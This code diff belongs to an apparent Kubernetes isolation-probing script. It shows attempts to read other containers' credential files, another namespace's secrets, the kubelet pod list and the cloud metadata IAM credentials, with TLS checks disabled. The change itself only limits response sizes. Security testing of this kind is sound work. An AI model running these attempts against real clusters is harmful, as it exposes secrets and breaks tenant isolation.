@@ -57,11 +57,11 @@ def neighbours():
     return below(*(f"{other}/root/credentials" for other in others if space(other) not in (None, mine)))
 
 
-def ask(url, token=None):
+def ask(url, token=None, most=65536):
     request = urllib.request.Request(url, headers={"Authorization": f"Bearer {token}"} if token else {})
     try:
         with urllib.request.urlopen(request, timeout=5, context=ssl._create_unverified_context()) as answer:
-            return [answer.read(65536).decode("utf-8", "replace")]
+            return [answer.read(most).decode("utf-8", "replace")]
     except OSError as why:
         print(f"{url}: {why}")
         return []
@@ -81,7 +81,7 @@ attempts = {
     "other containers' files": neighbours,
     "service account": lambda: [TOKEN] if TOKEN else [],
     "another namespace": lambda: ask(f"https://kubernetes.default.svc/api/v1/namespaces/{OTHER}/secrets", TOKEN),
-    "the node's agent": lambda: ask(f"https://{NODE}:10250/pods", TOKEN),
+    "the node's agent": lambda: ask(f"https://{NODE}:10250/pods", TOKEN, most=100),
     "metadata address": lambda: ask("http://169.254.169.254/latest/meta-data/iam/security-credentials/node"),
 }
 for name, attempt in attempts.items():
